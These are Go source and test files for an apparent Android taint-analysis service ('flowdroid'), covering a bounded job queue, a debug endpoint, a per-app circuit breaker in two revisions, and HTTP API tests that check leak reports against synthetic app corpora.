			t.Fatalf("job %s leaks: %v", id, err)
		}
		if err := json.Compact(&wantC, want); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(gotC.Bytes(), wantC.Bytes()) {
			t.Fatalf("app %s: service report differs from one-shot run\nservice: %s\none-shot: %s",
				apps[i].Name, gotC.Bytes(), wantC.Bytes())
		}
	}

	// Clean drain, then the invariants the counters carry.
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatalf("drain: %v", err)
	}
	ts.Close()
	http.DefaultClient.CloseIdleConnections()

	snap := rec.Snapshot()
	if peak := snap.Schedule["service.queue.depth.peak"]; peak > queueSize {
		t.Fatalf("queue depth peak %d exceeds the bound %d", peak, queueSize)
	}
	if got, want := snap.Schedule["service.rejected.queue_full"], rejectsSeen.Load(); got != want {
		t.Fatalf("rejection counter %d, clients saw %d 429s", got, want)
	}
	if got := snap.Schedule["service.completed"]; got != int64(len(apps)) {
		t.Fatalf("service.completed = %d, want %d", got, len(apps))
	}
	if got := snap.Schedule["service.failed"]; got != 0 {
		t.Fatalf("service.failed = %d, want 0", got)
	}

	// Zero leaked goroutines: everything the soak started — executors,
	// HTTP serving, client keep-alives — winds down.
	deadline := time.Now().Add(10 * time.Second)
	for {
		if n := runtime.NumGoroutine(); n <= goroutinesBefore {
			break
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			t.Fatalf("goroutine leak: %d before soak, %d after\n%s",
				goroutinesBefore, runtime.NumGoroutine(), buf[:runtime.Stack(buf, true)])
		}
		time.Sleep(20 * time.Millisecond)
	}
}
