package service

import (
	"expvar"
	"net"
	"net/http"
	"net/http/pprof"
	"sync"
	"sync/atomic"

	"flowdroid/internal/metrics"
)

// The debug endpoint shared by cmd/flowdroid and cmd/flowdroidd:
// net/http/pprof, expvar, the live metrics snapshot. The historical
// cmd/flowdroid implementation leaked its listener and silently dropped
// http.Serve's error; ServeDebug owns both — serve errors reach the
// caller's logger and Close tears the listener down.

// debugRec holds the recorder the process-wide expvar snapshot reads.
// expvar.Publish panics on duplicate names, so the variable is
// published once per process and reads through this pointer; the last
// ServeDebug call wins, which matches the one-recorder-per-process use.
var (
	debugOnce sync.Once
	debugRec  atomic.Pointer[metrics.Recorder]
)

// DebugServer is a running debug endpoint. Close shuts it down.
type DebugServer struct {
	ln   net.Listener
	srv  *http.Server
	done chan struct{}
}

// ServeDebug serves pprof, expvar and the metrics snapshot on addr:
//
//	/debug/pprof/...   net/http/pprof handlers
//	/debug/vars        expvar (includes "flowdroid.metrics")
//	/metrics           the recorder snapshot as JSON
//
// rec may be nil (the snapshot is then empty). Serve errors are
// reported through logf instead of being dropped; Close shuts the
// listener down and waits for the serve loop to exit.
func ServeDebug(addr string, rec *metrics.Recorder, logf func(format string, args ...any)) (*DebugServer, error) {
	debugOnce.Do(func() {
		expvar.Publish("flowdroid.metrics", expvar.Func(func() any {
			return debugRec.Load().Snapshot()
		}))
	})
	debugRec.Store(rec)
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	mux := http.NewServeMux()
	registerDebug(mux, rec)
	d := &DebugServer{ln: ln, srv: &http.Server{Handler: mux}, done: make(chan struct{})}
	if logf == nil {
		logf = func(string, ...any) {}
	}
	go func() {
		defer close(d.done)
		if err := d.srv.Serve(ln); err != nil && err != http.ErrServerClosed {
			logf("debug server on %s: %v", ln.Addr(), err)
		}
	}()
	return d, nil
}

// Addr is the bound listen address (useful with ":0").
func (d *DebugServer) Addr() string {
	if d == nil {
		return ""
	}
	return d.ln.Addr().String()
}

// Close shuts the debug server down: the listener closes, in-flight
// handlers are cut off, and the serve goroutine is waited for. Safe on
// nil and safe to call more than once.
func (d *DebugServer) Close() error {
	if d == nil {
		return nil
	}
	err := d.srv.Close()
	<-d.done
	return err
}

// registerDebug mounts the debug routes on a mux: the explicit pprof
// handlers (the net/http/pprof import side effect only covers
// http.DefaultServeMux), expvar, and the metrics snapshot.
func registerDebug(mux *http.ServeMux, rec *metrics.Recorder) {
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	mux.Handle("/debug/vars", expvar.Handler())
	mux.HandleFunc("/debug/metrics", MetricsHandler(rec))
}
