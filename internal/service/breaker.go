package service

import (
	"sync"
	"time"
)

// breakerState is the classic three-state circuit.
type breakerState int

const (
	breakerClosed breakerState = iota
	breakerOpen
	breakerHalfOpen
)

// breaker is a per-fingerprint circuit breaker over analysis outcomes.
// An app whose analyses keep ending badly — Recovered panics,
// InvalidProgram verdicts, load errors — trips its circuit after
// `trip` consecutive failures: further submissions of the same package
// are rejected up front instead of re-burning a worker share on a
// known-poison input. After the cooldown one probe submission is
// admitted (half-open); a good probe closes the circuit, a bad one
// re-opens it for another cooldown.
//
// State is kept per fingerprint and only for apps with a failure
// history: a successful analysis of a closed circuit deletes its
// entry, and entries untouched for entryTTL are evicted by an
// opportunistic sweep from deny/record, so the map does not grow with
// healthy traffic or with fingerprints that failed once and were never
// resubmitted.
type breaker struct {
	mu       sync.Mutex
	trip     int // consecutive failures to open; < 0 disables
	cooldown time.Duration
	// probeTTL bounds a half-open probe's flight time: a probe whose job
	// is dropped without ever reaching record (deadline-cancelled during
	// drain, say) would otherwise leave probing=true forever and deny the
	// fingerprint permanently. Past the deadline the circuit re-opens.
	probeTTL time.Duration
	// entryTTL evicts entries by last touch; zero disables eviction.
	entryTTL  time.Duration
	lastSweep time.Time
	entries   map[string]*breakerEntry
}

type breakerEntry struct {
	state        breakerState
	consecutive  int
	openedAt     time.Time
	probing      bool
	probeStarted time.Time
	lastTouched  time.Time
}

func newBreaker(trip int, cooldown time.Duration) *breaker {
	return &breaker{
		trip:     trip,
		cooldown: cooldown,
		probeTTL: max(cooldown, time.Second),
		entryTTL: max(20*cooldown, 10*time.Minute),
		entries:  map[string]*breakerEntry{},
	}
}

// sweep drops entries untouched for entryTTL. Called with mu held; the
// full scan is amortized by running at most every entryTTL/4.
func (b *breaker) sweep(now time.Time) {
	if b.entryTTL <= 0 || now.Sub(b.lastSweep) < b.entryTTL/4 {
		return
	}
	b.lastSweep = now
	for fp, e := range b.entries {
		if now.Sub(e.lastTouched) > b.entryTTL {
			delete(b.entries, fp)
		}
	}
}

// deny reports whether a submission for fp must be rejected now; when
// denied it returns the remaining wait. An open circuit whose cooldown
// has elapsed transitions to half-open and admits exactly one probe;
// concurrent submissions while the probe is in flight stay denied, with
// Retry-After scaled to the probe's remaining deadline rather than a
// full cooldown.
func (b *breaker) deny(fp string, now time.Time) (time.Duration, bool) {
	if b.trip < 0 {
		return 0, false
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	b.sweep(now)
	e := b.entries[fp]
	if e == nil {
		return 0, false
	}
	e.lastTouched = now
	switch e.state {
	case breakerClosed:
		return 0, false
	case breakerOpen:
		if wait := b.cooldown - now.Sub(e.openedAt); wait > 0 {
			return wait, true
		}
		e.state = breakerHalfOpen
		e.probing = true
		e.probeStarted = now
		return 0, false
	default: // half-open
		if e.probing {
			expiry := e.probeStarted.Add(b.probeTTL)
			if !now.Before(expiry) {
				// The probe's job never reported back: treat it as lost and
				// re-open the circuit from the moment the deadline passed,
				// so the fingerprint is denied for a cooldown and then gets
				// a fresh probe instead of being denied forever.
				e.state = breakerOpen
				e.openedAt = expiry
				e.probing = false
				if wait := b.cooldown - now.Sub(e.openedAt); wait > 0 {
					return wait, true
				}
				e.state = breakerHalfOpen
				e.probing = true
				e.probeStarted = now
				return 0, false
			}
			return expiry.Sub(now), true
		}
		e.probing = true
		e.probeStarted = now
		return 0, false
	}
}

// record feeds one analysis outcome back. It returns true when this
// outcome tripped (or re-tripped) the circuit.
func (b *breaker) record(fp string, bad bool, now time.Time) bool {
	if b.trip < 0 {
		return false
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	b.sweep(now)
	e := b.entries[fp]
	if e == nil {
		if !bad {
			return false
		}
		e = &breakerEntry{}
		b.entries[fp] = e
	}
	e.lastTouched = now
	if e.state == breakerHalfOpen {
		e.probing = false
		if bad {
			e.state = breakerOpen
			e.openedAt = now
			e.consecutive = b.trip
			return true
		}
		delete(b.entries, fp)
		return false
	}
	if !bad {
		delete(b.entries, fp)
		return false
	}
	e.consecutive++
	if e.state == breakerClosed && e.consecutive >= b.trip {
		e.state = breakerOpen
		e.openedAt = now
		return true
	}
	return false
}
