package service

import (
	"sync"
	"time"
)

// breakerState is the classic three-state circuit.
type breakerState int

const (
	breakerClosed breakerState = iota
	breakerOpen
	breakerHalfOpen
)

// breaker is a per-fingerprint circuit breaker over analysis outcomes.
// An app whose analyses keep ending badly — Recovered panics,
// InvalidProgram verdicts, load errors — trips its circuit after
// `trip` consecutive failures: further submissions of the same package
// are rejected up front instead of re-burning a worker share on a
// known-poison input. After the cooldown one probe submission is
// admitted (half-open); a good probe closes the circuit, a bad one
// re-opens it for another cooldown.
//
// State is kept per fingerprint and only for apps with a failure
// history: a successful analysis of a closed circuit deletes its
// entry, so the map does not grow with healthy traffic.
type breaker struct {
	mu       sync.Mutex
	trip     int // consecutive failures to open; < 0 disables
	cooldown time.Duration
	entries  map[string]*breakerEntry
}

type breakerEntry struct {
	state       breakerState
	consecutive int
	openedAt    time.Time
	probing     bool
}

func newBreaker(trip int, cooldown time.Duration) *breaker {
	return &breaker{trip: trip, cooldown: cooldown, entries: map[string]*breakerEntry{}}
}

// deny reports whether a submission for fp must be rejected now; when
// denied it returns the remaining cooldown. An open circuit whose
// cooldown has elapsed transitions to half-open and admits exactly one
// probe; concurrent submissions while the probe is in flight stay
// denied.
func (b *breaker) deny(fp string, now time.Time) (time.Duration, bool) {
	if b.trip < 0 {
		return 0, false
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	e := b.entries[fp]
	if e == nil {
		return 0, false
	}
	switch e.state {
	case breakerClosed:
		return 0, false
	case breakerOpen:
		if wait := b.cooldown - now.Sub(e.openedAt); wait > 0 {
			return wait, true
		}
		e.state = breakerHalfOpen
		e.probing = true
		return 0, false
	default: // half-open
		if e.probing {
			return b.cooldown, true
		}
		e.probing = true
		return 0, false
	}
}

// record feeds one analysis outcome back. It returns true when this
// outcome tripped (or re-tripped) the circuit.
func (b *breaker) record(fp string, bad bool, now time.Time) bool {
	if b.trip < 0 {
		return false
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	e := b.entries[fp]
	if e == nil {
		if !bad {
			return false
		}
		e = &breakerEntry{}
		b.entries[fp] = e
	}
	if e.state == breakerHalfOpen {
		e.probing = false
		if bad {
			e.state = breakerOpen
			e.openedAt = now
			e.consecutive = b.trip
			return true
		}
		delete(b.entries, fp)
		return false
	}
	if !bad {
		delete(b.entries, fp)
		return false
	}
	e.consecutive++
	if e.state == breakerClosed && e.consecutive >= b.trip {
		e.state = breakerOpen
		e.openedAt = now
		return true
	}
	return false
}
