package service

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"flowdroid/internal/appgen"
	"flowdroid/internal/metrics"
)

// newTestAPI starts a server plus its HTTP front. The caller gets the
// base URL; cleanup drains and closes everything.
func newTestAPI(t *testing.T, cfg Config) (*Server, *httptest.Server) {
	t.Helper()
	s := New(cfg)
	ts := httptest.NewServer(s.Handler(true))
	t.Cleanup(func() {
		ts.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		s.Shutdown(ctx)
	})
	return s, ts
}

func postJob(t *testing.T, url string, req Request) (*http.Response, []byte) {
	t.Helper()
	body, err := json.Marshal(req)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(url+"/v1/jobs", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	buf.ReadFrom(resp.Body)
	return resp, buf.Bytes()
}

func get(t *testing.T, url string) (*http.Response, []byte) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	buf.ReadFrom(resp.Body)
	return resp, buf.Bytes()
}

func TestHTTPSubmitPollResult(t *testing.T) {
	rec := metrics.New()
	_, ts := newTestAPI(t, Config{QueueSize: 4, Analyses: 2, Recorder: rec})

	app := appgen.GenerateCorpus(appgen.Malware, 1, 3)[0]
	resp, body := postJob(t, ts.URL, Request{Files: app.Files})
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit: %d %s", resp.StatusCode, body)
	}
	var sub SubmitResponse
	if err := json.Unmarshal(body, &sub); err != nil {
		t.Fatalf("submit body %s: %v", body, err)
	}
	if sub.ID == "" || sub.Fingerprint == "" {
		t.Fatalf("submit response incomplete: %+v", sub)
	}

	// Poll the status endpoint to completion.
	var st JobStatus
	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, body = get(t, ts.URL+"/v1/jobs/"+sub.ID)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("status: %d %s", resp.StatusCode, body)
		}
		if err := json.Unmarshal(body, &st); err != nil {
			t.Fatalf("status body %s: %v", body, err)
		}
		if st.State == "done" || st.State == "failed" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("job stuck in state %q", st.State)
		}
		time.Sleep(2 * time.Millisecond)
	}
	if st.State != "done" || st.Status != "Complete" {
		t.Fatalf("final state %q status %q error %q", st.State, st.Status, st.Error)
	}

	resp, body = get(t, ts.URL+"/v1/jobs/"+sub.ID+"/result")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("result: %d %s", resp.StatusCode, body)
	}
	var rep Report
	if err := json.Unmarshal(body, &rep); err != nil {
		t.Fatalf("result body: %v", err)
	}
	if rep.Status != "Complete" {
		t.Fatalf("report status %q, want Complete", rep.Status)
	}
	if len(rep.Leaks) != app.InjectedLeaks {
		t.Fatalf("reported %d leaks, ground truth %d", len(rep.Leaks), app.InjectedLeaks)
	}
	if rep.Counters.Workers == 0 {
		t.Fatal("report carries no worker count")
	}

	// The list endpoint knows the job too.
	resp, body = get(t, ts.URL+"/v1/jobs")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("list: %d", resp.StatusCode)
	}
	var all []JobStatus
	if err := json.Unmarshal(body, &all); err != nil {
		t.Fatal(err)
	}
	if len(all) != 1 || all[0].ID != sub.ID {
		t.Fatalf("list = %+v, want the one job", all)
	}
}

func TestHTTPResultBeforeDone(t *testing.T) {
	s, ts := newTestAPI(t, Config{QueueSize: 2, Analyses: 1})
	release := make(chan struct{})
	s.beforeJob = func(ctx context.Context, id string) {
		select {
		case <-release:
		case <-ctx.Done():
		}
	}
	defer close(release)

	resp, body := postJob(t, ts.URL, Request{Files: appgen.GenerateCorpus(appgen.Play, 1, 2)[0].Files})
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit: %d", resp.StatusCode)
	}
	var sub SubmitResponse
	json.Unmarshal(body, &sub)
	resp, body = get(t, ts.URL+"/v1/jobs/"+sub.ID+"/result")
	if resp.StatusCode != http.StatusConflict {
		t.Fatalf("early result: %d %s, want 409", resp.StatusCode, body)
	}
	release <- struct{}{}
}

func TestHTTPRejections(t *testing.T) {
	s, ts := newTestAPI(t, Config{QueueSize: 1, Analyses: 1})
	release := make(chan struct{})
	s.beforeJob = func(ctx context.Context, id string) {
		select {
		case <-release:
		case <-ctx.Done():
		}
	}
	defer close(release)

	// Bad JSON and empty packages are 400s.
	resp, err := http.Post(ts.URL+"/v1/jobs", "application/json", strings.NewReader("{"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("bad JSON: %d, want 400", resp.StatusCode)
	}
	resp, body := postJob(t, ts.URL, Request{})
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("empty package: %d %s, want 400", resp.StatusCode, body)
	}

	// Fill the executor and the queue, then overflow: 429 + Retry-After.
	files := appgen.GenerateCorpus(appgen.Play, 1, 4)[0].Files
	resp, body = postJob(t, ts.URL, Request{Files: files})
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("first submit: %d", resp.StatusCode)
	}
	var first SubmitResponse
	json.Unmarshal(body, &first)
	waitRunning(t, s, first.ID)
	if resp, _ = postJob(t, ts.URL, Request{Files: files}); resp.StatusCode != http.StatusAccepted {
		t.Fatalf("second submit: %d", resp.StatusCode)
	}
	resp, body = postJob(t, ts.URL, Request{Files: files})
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("overflow submit: %d %s, want 429", resp.StatusCode, body)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Fatal("429 without Retry-After")
	}
	var he httpError
	if err := json.Unmarshal(body, &he); err != nil || he.Error == "" {
		t.Fatalf("429 body %s: %v", body, err)
	}
	release <- struct{}{}
	release <- struct{}{}
}

// TestRetryAfterRoundsUp pins the admission-rejection header contract:
// a positive wait never emits Retry-After: 0 (sub-second cooldowns used
// to truncate to zero and well-behaved clients hammered immediately),
// the header rounds up so it never under-states the wait, and the JSON
// body keeps the exact wait in milliseconds.
func TestRetryAfterRoundsUp(t *testing.T) {
	for _, code := range []int{http.StatusTooManyRequests, http.StatusServiceUnavailable} {
		for _, wait := range []time.Duration{
			time.Millisecond, 250 * time.Millisecond, 999 * time.Millisecond,
			time.Second, 1500 * time.Millisecond, 2500 * time.Millisecond, 3 * time.Second,
		} {
			rr := httptest.NewRecorder()
			writeError(rr, code, "try later", wait)
			h := rr.Header().Get("Retry-After")
			secs, err := strconv.Atoi(h)
			if err != nil {
				t.Fatalf("code %d wait %v: Retry-After %q is not an integer", code, wait, h)
			}
			if secs < 1 {
				t.Fatalf("code %d wait %v: Retry-After %d, want >= 1 on a positive wait", code, wait, secs)
			}
			if float64(secs) < wait.Seconds() {
				t.Fatalf("code %d wait %v: Retry-After %d under-states the wait", code, wait, secs)
			}
			if float64(secs)-wait.Seconds() >= 1 {
				t.Fatalf("code %d wait %v: Retry-After %d over-states the wait by a second or more", code, wait, secs)
			}
			var he httpError
			if err := json.Unmarshal(rr.Body.Bytes(), &he); err != nil {
				t.Fatal(err)
			}
			if he.RetryAfterMS != wait.Milliseconds() {
				t.Fatalf("code %d wait %v: retryAfterMs %d, want exact %d", code, wait, he.RetryAfterMS, wait.Milliseconds())
			}
		}
	}
	// No wait, no header.
	rr := httptest.NewRecorder()
	writeError(rr, http.StatusServiceUnavailable, "draining", 0)
	if h := rr.Header().Get("Retry-After"); h != "" {
		t.Fatalf("zero wait emitted Retry-After %q", h)
	}
}

func TestHTTPUnknownJob(t *testing.T) {
	_, ts := newTestAPI(t, Config{})
	resp, _ := get(t, ts.URL+"/v1/jobs/job-999")
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown job: %d, want 404", resp.StatusCode)
	}
	resp, _ = get(t, ts.URL+"/v1/jobs/job-999/result")
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown result: %d, want 404", resp.StatusCode)
	}
}

func TestHTTPHealthzAndMetrics(t *testing.T) {
	rec := metrics.New()
	s, ts := newTestAPI(t, Config{QueueSize: 3, Recorder: rec})

	resp, body := get(t, ts.URL+"/healthz")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: %d", resp.StatusCode)
	}
	var h struct {
		Status string `json:"status"`
		Stats
	}
	if err := json.Unmarshal(body, &h); err != nil {
		t.Fatalf("healthz body %s: %v", body, err)
	}
	if h.Status != "ok" || h.QueueCap != 3 {
		t.Fatalf("healthz %+v", h)
	}

	resp, body = get(t, ts.URL+"/metrics")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("metrics: %d", resp.StatusCode)
	}
	var snap metrics.Snapshot
	if err := json.Unmarshal(body, &snap); err != nil {
		t.Fatalf("metrics body: %v", err)
	}

	// pprof and expvar ride the same mux when enabled.
	resp, _ = get(t, ts.URL+"/debug/vars")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("debug/vars: %d", resp.StatusCode)
	}

	// Draining flips healthz to 503 so load balancers stop routing here.
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	resp, body = get(t, ts.URL+"/healthz")
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("draining healthz: %d %s, want 503", resp.StatusCode, body)
	}
	json.Unmarshal(body, &h)
	if h.Status != "draining" {
		t.Fatalf("draining healthz status %q", h.Status)
	}
	resp, _ = postJob(t, ts.URL, Request{Files: map[string]string{"x": "y"}})
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("submit while draining: %d, want 503", resp.StatusCode)
	}
}

func TestServeDebugSharedHelper(t *testing.T) {
	rec := metrics.New()
	rec.Counter("test.counter", metrics.Deterministic).Add(7)
	var logged []string
	dbg, err := ServeDebug("127.0.0.1:0", rec, func(format string, args ...any) {
		logged = append(logged, fmt.Sprintf(format, args...))
	})
	if err != nil {
		t.Fatal(err)
	}
	resp, body := get(t, "http://"+dbg.Addr()+"/debug/metrics")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("debug metrics: %d", resp.StatusCode)
	}
	var snap metrics.Snapshot
	if err := json.Unmarshal(body, &snap); err != nil {
		t.Fatal(err)
	}
	if snap.Deterministic["test.counter"] != 7 {
		t.Fatalf("snapshot %+v misses test.counter=7", snap.Deterministic)
	}
	resp, body = get(t, "http://"+dbg.Addr()+"/debug/vars")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("debug/vars: %d", resp.StatusCode)
	}
	if !bytes.Contains(body, []byte("flowdroid.metrics")) {
		t.Fatal("expvar misses flowdroid.metrics")
	}
	if err := dbg.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	// The listener is really gone.
	if _, err := http.Get("http://" + dbg.Addr() + "/debug/vars"); err == nil {
		t.Fatal("debug server still serving after Close")
	}
	if dbg.Close() != nil {
		t.Fatal("second Close errored")
	}
	_ = logged // no serve errors expected on the clean path
}
