package service

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"
	"time"

	"flowdroid/internal/appgen"
	"flowdroid/internal/taint"
)

// waitJobHTTP polls the status endpoint until the job leaves the queue.
func waitJobHTTP(t *testing.T, ts *httptest.Server, id string) JobStatus {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, body := get(t, ts.URL+"/v1/jobs/"+id)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("status: %d %s", resp.StatusCode, body)
		}
		var st JobStatus
		if err := json.Unmarshal(body, &st); err != nil {
			t.Fatalf("status body %s: %v", body, err)
		}
		if st.State == "done" || st.State == "failed" {
			return st
		}
		if time.Now().After(deadline) {
			t.Fatalf("job %s stuck in state %q", id, st.State)
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// TestHTTPSubmitWithSinkQuery exercises the demand-driven query surface
// of POST /v1/jobs: a job with a "sinks" field must report exactly the
// whole-program leaks into those sinks, carry the cone counters, and
// key the circuit breaker separately from the whole-program submission
// of the same app.
func TestHTTPSubmitWithSinkQuery(t *testing.T) {
	_, ts := newTestAPI(t, Config{QueueSize: 8, Analyses: 2})
	app := appgen.GenerateCorpus(appgen.Malware, 1, 3)[0]

	submit := func(req Request) SubmitResponse {
		t.Helper()
		resp, body := postJob(t, ts.URL, req)
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("submit: %d %s", resp.StatusCode, body)
		}
		var sub SubmitResponse
		if err := json.Unmarshal(body, &sub); err != nil {
			t.Fatalf("submit body %s: %v", body, err)
		}
		return sub
	}
	result := func(id string) Report {
		t.Helper()
		resp, body := get(t, ts.URL+"/v1/jobs/"+id+"/result")
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("result: %d %s", resp.StatusCode, body)
		}
		var rep Report
		if err := json.Unmarshal(body, &rep); err != nil {
			t.Fatalf("result body %s: %v", body, err)
		}
		return rep
	}

	whole := submit(Request{Files: app.Files})
	queried := submit(Request{Files: app.Files, Sinks: []string{"sms"}})
	if whole.Fingerprint == queried.Fingerprint {
		t.Fatalf("whole-program and query submissions share fingerprint %s; the breaker cannot tell them apart", whole.Fingerprint)
	}

	if st := waitJobHTTP(t, ts, whole.ID); st.State != "done" || st.Status != "Complete" {
		t.Fatalf("whole-program job: state %q status %q error %q", st.State, st.Status, st.Error)
	}
	if st := waitJobHTTP(t, ts, queried.ID); st.State != "done" || st.Status != "Complete" {
		t.Fatalf("query job: state %q status %q error %q", st.State, st.Status, st.Error)
	}

	wholeRep, queryRep := result(whole.ID), result(queried.ID)
	if wholeRep.Counters.ConeMethods != 0 || wholeRep.Counters.SkippedComponents != 0 {
		t.Fatalf("whole-program report carries cone counters %d/%d, want zero",
			wholeRep.Counters.ConeMethods, wholeRep.Counters.SkippedComponents)
	}
	if queryRep.Counters.ConeMethods == 0 {
		t.Fatal("query report carries no cone size")
	}

	// The equivalence contract over the wire: the query report's leaks
	// are exactly the whole-program leaks into the queried sink.
	want := []taint.LeakReport{}
	for _, l := range wholeRep.Leaks {
		if l.SinkLabel == "sms" {
			want = append(want, l)
		}
	}
	if len(want) == 0 {
		t.Fatalf("fixture app leaks nowhere into sms; pick another seed (leaks: %+v)", wholeRep.Leaks)
	}
	if !reflect.DeepEqual(queryRep.Leaks, want) {
		t.Fatalf("query leaks differ from filtered whole-program leaks:\n got %+v\nwant %+v", queryRep.Leaks, want)
	}

	// An unknown selector fails the job with a diagnosable error instead
	// of silently analyzing nothing.
	bogus := submit(Request{Files: app.Files, Sinks: []string{"no-such-sink"}})
	st := waitJobHTTP(t, ts, bogus.ID)
	if st.State != "failed" {
		t.Fatalf("unknown-selector job ended %q, want failed", st.State)
	}
	if !strings.Contains(st.Error, "no-such-sink") {
		t.Fatalf("failure %q does not name the unknown selector", st.Error)
	}
}
