// Package service turns the batch analysis pipeline into a resident
// daemon: a bounded job queue with explicit admission control, a pool of
// analysis executors sharing a global taint-worker budget, per-request
// deadlines and propagation budgets mapped onto the core resilience
// knobs, a per-app-fingerprint circuit breaker, and a graceful drain.
//
// The design rules mirror the rest of the repository:
//
//  1. Never buffer unboundedly. The queue is a fixed-capacity channel
//     and a submission that does not fit is rejected immediately with
//     ErrQueueFull — a retriable condition the HTTP layer maps to 429.
//
//  2. Every admitted job is bounded. The request's deadline (clamped to
//     the server's maximum) and propagation budget ride the existing
//     core.Options resilience machinery, so a runaway analysis ends in
//     a partial, explained Result instead of wedging an executor.
//
//  3. Failure is data. A panicking analysis is recovered (by core's
//     stage recovery, with a service-level backstop), counted, and fed
//     to the circuit breaker; repeated Recovered/InvalidProgram
//     outcomes for the same app fingerprint trip the breaker so the
//     daemon stops re-burning workers on a poison input.
//
//  4. Drain is a first-class operation: stop admitting, let queued and
//     in-flight jobs finish (or deadline-cancel them when the drain
//     context expires), then return with every executor accounted for.
package service

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"runtime"
	"sort"
	"sync"
	"time"

	"flowdroid/internal/core"
	"flowdroid/internal/metrics"
	"flowdroid/internal/summarystore"
)

// Config tunes a Server. The zero value is usable: every field has a
// production-shaped default applied by New.
type Config struct {
	// QueueSize bounds the job queue (default 64). A submission that
	// finds the queue full is rejected with ErrQueueFull, never buffered.
	QueueSize int
	// Analyses is the number of concurrent analysis executors
	// (default 2). Each executor runs one whole-app analysis at a time.
	Analyses int
	// WorkerBudget is the global taint-solver worker budget shared
	// across concurrent analyses (default GOMAXPROCS). Each job is
	// granted the fair share max(1, WorkerBudget/Analyses) via
	// taint.Config.Workers; grants are leased and released around the
	// run so the lease gauge never exceeds the budget.
	WorkerBudget int
	// DefaultDeadline bounds a job whose request carries no deadline
	// (default 2m). MaxDeadline caps any requested deadline (default
	// 10m); requests asking for more are clamped, not rejected.
	DefaultDeadline time.Duration
	MaxDeadline     time.Duration
	// DefaultMaxPropagations is the propagation budget applied to
	// requests that do not set one (0 = unlimited).
	DefaultMaxPropagations int
	// BreakerTrip is the number of consecutive Recovered/InvalidProgram/
	// error outcomes for one app fingerprint that trips its circuit
	// breaker (default 3; <0 disables the breaker). BreakerCooldown is
	// how long a tripped circuit stays open before a single probe is
	// admitted (default 30s).
	BreakerTrip     int
	BreakerCooldown time.Duration
	// RetainJobs bounds how many finished jobs stay queryable (default
	// 1024). The oldest finished jobs are evicted first; queued and
	// running jobs are never evicted.
	RetainJobs int
	// SummaryDir, when non-empty, gives the daemon a persistent
	// method-summary store shared by every job (see internal/summarystore):
	// a resubmitted app update replays the summaries of its unchanged
	// methods instead of re-solving them (warm re-analysis). The store
	// never changes any job's leak report; its effect shows up in the
	// summary.store.* metrics and the per-job summary counters.
	SummaryDir string
	// DisableStringCarriers turns off the string-carrier fast path for
	// every job (kill switch; see taint.Config.StringCarriers). The flag
	// is part of the summary-store config fingerprint, so toggling it
	// between daemon runs sharing a SummaryDir invalidates cleanly
	// instead of replaying artifacts from the other mode.
	DisableStringCarriers bool
	// DisableReflection turns off the reflection-resolving constant-
	// propagation pass for every job (kill switch; see
	// core.Options.ResolveReflection). Like the carrier flag it is part
	// of the summary-store config fingerprint, so daemons sharing a
	// SummaryDir across the toggle invalidate cleanly instead of
	// replaying summaries recorded against the other call graph.
	DisableReflection bool
	// Recorder receives the service and pipeline metrics. Nil runs the
	// service unobserved (every instrument no-ops).
	Recorder *metrics.Recorder
}

func (c Config) withDefaults() Config {
	if c.QueueSize <= 0 {
		c.QueueSize = 64
	}
